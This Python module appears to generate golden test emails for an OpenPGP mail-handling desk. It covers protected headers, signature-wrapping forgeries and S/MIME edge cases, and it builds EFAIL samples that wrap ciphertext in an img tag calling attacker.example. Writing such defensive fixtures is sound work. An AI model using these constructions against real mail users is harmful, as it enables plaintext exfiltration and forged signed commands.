"""The golden mails from 224 on: protected headers, signatures that seem to cover more, and what does not open.

`python -m tests.golden_openpgp_attacks [NUMBER...]` made all golden mails of OpenPGP, 200 to 249. Every run makes
other ciphertexts, so a mail is made once and kept.
"""

import sys

from tests.golden_openpgp import HER, KEEPER, clearsigned, encrypted, joined, make, run, sealed, sent, signed, text
from tests.golden_openpgp_mails import CRY, FOOTER, READING, V1, damaged, smime

HP = 'text/plain; charset=utf-8; hp="{}"'
ORDER = "- erase K7QD-3M9X-T\n"


def as_part(entity: bytes) -> bytes:
    """Attach a whole mail."""
    return b"Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n" + entity


def legacy(words: str) -> bytes:
    """Make the older legacy display: a first part that repeats the subject for old programs."""
    shown = text("Subject: Someone follows me", 'text/plain; protected-headers="v1"', "Content-Disposition: inline")
    inner = joined("mixed", shown, text(words))
    return b"Subject: Someone follows me\r\n" + inner.replace(b"mixed;", b'mixed; protected-headers="v1";', 1)


ATTACKS = {
    "224-rfc-9788-cipher": (
        "RFC 9788: hp=cipher, the true subject and From inside, HP-Outer tells what stood outside.",
        lambda: sent(
            encrypted(
                sealed(
                    text(
                        CRY,
                        HP.format("cipher"),
                        f"From: {HER}",
                        "Subject: Someone follows me",
                        "HP-Outer: Subject: [...]",
                    ),
                    sign="complainant",
                )
            ),
            HER,
            "[...]",
        ),
    ),
    "225-rfc-9788-clear": (
        "RFC 9788: hp=clear, signed and not encrypted; the signature of a keeper counts, so her inner subject does.",
        lambda: sent(
            signed(text("Thank you.", HP.format("clear"), f"From: {KEEPER}", "Subject: close [K7QD-3M9X-T]"), "keeper"),
            KEEPER,
            "changed on the way",
        ),
    ),
    "226-legacy-display-part": (
        "The older way: a part that repeats the subject for old programs is not part of her words.",
        lambda: sent(encrypted(sealed(legacy(CRY)))),
    ),
    "227-legacy-display-lines": (
        "RFC 9788: hp-legacy-display=1, the first lines of the text repeat the subject and are left out.",
        lambda: sent(
            encrypted(
                sealed(
                    text(
                        f"Subject: Someone follows me\n\n{CRY}",
                        HP.format("cipher") + '; hp-legacy-display="1"',
                        f"From: {HER}",
                        "Subject: Someone follows me",
                    )
                )
            )
        ),
    ),
    "228-inner-subject-not-protected": (
        "A subject inside that nobody marked as protected is not the subject of the mail.",
        lambda: sent(encrypted(sealed(text(CRY, "text/plain; charset=utf-8", "Subject: not mine"))), HER, "outside"),
    ),
    "229-inner-from-differs": (
        "The protected From is another than the one outside: a defect, and the outer one counts for answering.",
        lambda: sent(encrypted(sealed(text(CRY, V1, "From: somebody@example.net", "Subject: s"))), HER),
    ),
    "230-signed-by-a-keeper": (
        "Plain PGP/MIME signed by a configured keeper: valid, and a command.",
        lambda: sent(signed(text("close"), "keeper"), KEEPER, "[K7QD-3M9X-T]"),
    ),
    "231-signed-and-a-list-footer": (
        "A list added a footer to a signed mail: the signature does not cover all that is shown.",
        lambda: sent(joined("mixed", signed(text("close"), "keeper"), FOOTER), KEEPER),
    ),
    "232-signed-part-as-an-attachment": (
        "A keeper's old signed mail is attached below words that she never wrote.",
        lambda: sent(joined("mixed", text(ORDER), signed(text("Thank you."), "keeper")), KEEPER),
    ),
    "233-html-hides-the-signed-text": (
        "HTML before the signed part opens an element that hides what follows, in a program that joins the parts.",
        lambda: sent(
            joined(
                "mixed",
                text(f"<p>{ORDER}</p><div style='display:none'>", "text/html"),
                signed(text("Thank you."), "keeper"),
                text("</div>", "text/html"),
            ),
            KEEPER,
        ),
    ),
    "234-signed-part-behind-a-content-id": (
        "multipart/related: the root is the attacker's HTML, the signed part is only something that it could refer to.",
        lambda: sent(
            joined(
                'related; start="<root@x>"',
                b"Content-ID: <signed@x>\r\n" + signed(text("Thank you."), "keeper"),
                b"Content-ID: <root@x>\r\n" + text(f"<p>{ORDER}</p><img src='cid:signed@x'>", "text/html"),
            ),
            KEEPER,
        ),
    ),
    "235-signed-mail-attached-as-a-mail": (
        "A keeper's whole signed mail as message/rfc822 below other words: it is a file, not her signature.",
        lambda: sent(joined("mixed", text(ORDER), as_part(sent(signed(text("close"), "keeper"), KEEPER))), KEEPER),
    ),
    "236-several-from": (
        "Two addresses in From, and a good signature by one of them: which one a reader sees, nobody knows.",
        lambda: sent(signed(text(CRY), "deputy"), f"{HER}, deputy@example.org"),
    ),
    "237-keeper-only-as-display-name": (
        "The keeper's address is the display name of another sender, whose key the desk has not.",
        lambda: sent(signed(text("close"), "complainant"), f'"{KEEPER}" <{HER}>'),
    ),
    "238-signed-html-twin-not-signed": (
        "A cleartext-signed text with an unsigned HTML twin that says something else.",
        lambda: sent(
            joined(
                "alternative",
                b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + clearsigned("Thank you.\n", "keeper"),
                text(f"<p>{ORDER}</p>", "text/html"),
            ),
            KEEPER,
        ),
    ),
    "239-efail-direct-exfiltration": (
        "EFAIL: somebody else's ciphertext between halves of an HTML tag that would send the words to a server.",
        lambda: sent(
            joined(
                "mixed",
                text('<img src="http://attacker.example/', "text/html"),
                encrypted(sealed(text(CRY))),
                text('">', "text/html"),
            ),
            "mallory@example.net",
        ),
    ),
    "240-efail-no-integrity-protection": (
        "EFAIL: encrypted without a check against changes; gpg prints the words all the same, and they are dropped.",
        lambda: sent(encrypted(sealed(text(CRY), "--rfc2440"))),
    ),
    "241-ciphertext-changed": (
        "EFAIL: one letter of the ciphertext was changed on the way.",
        lambda: sent(encrypted(damaged(sealed(text(CRY * 5), "--compress-algo", "none")))),
    ),
    "242-decrypted-html-with-remote-content": (
        "The words inside are HTML that would fetch a picture from a server; it is text to us, and fetches nothing.",
        lambda: sent(
            encrypted(sealed(text(f'<p>{CRY}</p><img src="http://attacker.example/x.png">', "text/html"))),
        ),
    ),
    "243-no-key": (
        "Encrypted to a key that the desk does not have.",
        lambda: sent(encrypted(sealed(text(CRY), to="rsa"))),
    ),
    "244-password": (
        "Encrypted with a password instead of a key: nobody can open it before she tells the password.",
        lambda: sent(encrypted(run("--armor", "--passphrase", "secret word", "--symmetric", stdin=text(CRY)))),
    ),
    "245-smime-encrypted": (
        "S/MIME, encrypted: recognised and kept, not readable.",
        lambda: sent(smime("smime-type=enveloped-data; ")),
    ),
    "246-smime-type-lost": (
        "A gateway made application/octet-stream of an encrypted S/MIME mail; the name smime.p7m tells.",
        lambda: sent(joined("mixed", smime("", "application/octet-stream"), FOOTER)),
    ),
    "247-smime-opaque-signature": (
        "S/MIME, signed so that the text is wrapped in the signature: not encrypted, and not readable either.",
        lambda: sent(smime("smime-type=signed-data; ", "application/x-pkcs7-mime")),
    ),
    "248-smime-clear-signature": (
        "S/MIME, signed beside the text: the text is readable, the signature is not checked.",
        lambda: sent(
            joined(
                'signed; protocol="application/pkcs7-signature"; micalg=sha-256',
                text(CRY),
                smime("", "application/pkcs7-signature").replace(b"smime.p7m", b"smime.p7s"),
            )
        ),
    ),
    "249-signed-with-an-expired-key": (
        "The signer's key expired since. The desk has the key, and does not count the signature.",
        lambda: sent(signed(text(CRY), "expired", "20240601T120000"), "Expired <expired@example.net>"),
    ),
}


if __name__ == "__main__":
    make(READING | ATTACKS, sys.argv[1:])
